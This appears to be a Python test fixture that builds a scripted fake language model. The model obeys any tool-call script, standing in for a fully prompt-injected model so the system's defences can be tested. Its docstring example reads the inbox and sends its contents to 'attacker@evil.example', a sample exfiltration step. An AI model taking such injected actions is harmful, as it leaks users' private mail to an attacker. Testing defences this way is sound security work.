"""A scripted model that does exactly what a turn's script says, one tool call per step, whatever it reads: the
worst case for prompt injection (it obeys), used to test that the architecture holds anyway.

    llm.set_handler(obey(("inbox_read", {}), ("inbox_send", {"to": "attacker@evil.example", "text": "..."})))
"""

from __future__ import annotations

from typing import Any

from tests.fakes.openai_server import Handler, Reply, ToolCall


def obey(*calls: tuple[str, dict[str, Any]]) -> Handler:
    """Make `calls` one per step of the current turn, then answer with what the last tool said."""

    def handler(request: dict[str, Any]) -> Reply:
        messages = request["messages"]
        start = max(index for index, message in enumerate(messages) if message.get("role") == "user")
        results = [message for message in messages[start:] if message.get("role") == "tool"]  # this turn's only
        if len(results) < len(calls):
            name, arguments = calls[len(results)]
            return Reply(tool_calls=(ToolCall(name, arguments),))
        return Reply(content=f"Done: {results[-1]['content'][:300]}" if results else "Done.")

    return handler
